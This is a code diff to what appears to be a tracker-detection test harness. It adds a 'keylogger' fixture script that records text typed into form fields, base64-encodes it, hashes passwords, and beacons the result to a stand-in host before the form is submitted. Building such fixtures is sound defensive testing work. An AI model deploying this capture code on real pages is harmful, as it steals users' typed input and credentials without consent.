@@ -392,6 +392,7 @@ export const BEHAVE = {
   site: 'behave.example',
   recorder: 'replay-fixture.test', // listens to mouse, scroll and keys, observes the DOM, sends batches
   fingerprinter: 'canvas-fixture.test', // canvas text read back; 60 fonts measured; WebGL's renderer
+  keylogger: 'keylog-fixture.test', // sends what you type (the password as SHA-256, the rest in base64) before you submit
   benign: {
     chart: 'charts.benign-chart.test', // bars and labels on a canvas, never read back
     logo: 'logo.benign-logo.test', // a 4-letter text logo, saved as an image when the user clicks
@@ -429,6 +430,24 @@ const BEHAVE_JS = {
     if (ext) window.__gpu = gl.getParameter(ext.UNMASKED_RENDERER_WEBGL);
   } catch (e) {}
   new Image().src = 'https://collect.${BEHAVE.fingerprinter}/fp.gif?h=' + window.__fp + '&f=' + fonts;
+})();
+`,
+  [`k.${BEHAVE.keylogger}`]: `(function () {
+  var typed = {}; var timer = 0;
+  function hex(buf) { return Array.from(new Uint8Array(buf), function (b) { return b.toString(16).padStart(2, '0'); }).join(''); }
+  function flush() {
+    var out = {}; var jobs = Object.keys(typed).map(function (id) {
+      var v = typed[id].value;
+      if (typed[id].type !== 'password') { out[id] = btoa(unescape(encodeURIComponent(v))); return null; }
+      return crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)).then(function (d) { out[id] = hex(d); });
+    });
+    Promise.all(jobs).then(function () { navigator.sendBeacon('https://in.${BEHAVE.keylogger}/k', JSON.stringify(out)); });
+  }
+  document.addEventListener('input', function (e) {
+    var t = e.target; if (!t || !t.id) return;
+    typed[t.id] = { type: t.type, value: t.value };
+    clearTimeout(timer); timer = setTimeout(flush, 250);
+  }, true);
 })();
 `,
   [BEHAVE.benign.chart]: `(function () {
@@ -469,13 +488,14 @@ function behavePage() {
 <style>body { margin: 2em; min-height: 200vh; }</style></head><body>
 <h1>Behave</h1>
 <form id="f"><label>Search <input id="q" autocomplete="off"></label><div id="suggest"></div>
-<label>Comment <textarea id="comment"></textarea></label></form>
+<label>Password <input id="pw" type="password" autocomplete="off"></label>
+<label>Comment <textarea id="comment"></textarea></label> <button id="send">Send</button></form>
 ${scripts}
 </body></html>`;
 }
 
 for (const [host, body] of Object.entries(BEHAVE_JS)) THIRD_PARTIES[host] = () => ({ type: 'text/javascript', body });
-for (const h of [`ingest.${BEHAVE.recorder}`, `collect.${BEHAVE.fingerprinter}`]) {
+for (const h of [`ingest.${BEHAVE.recorder}`, `collect.${BEHAVE.fingerprinter}`, `in.${BEHAVE.keylogger}`]) {
   THIRD_PARTIES[h] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });
 }
 // rrweb.example: rrweb (the open-source session recorder, from npm) served
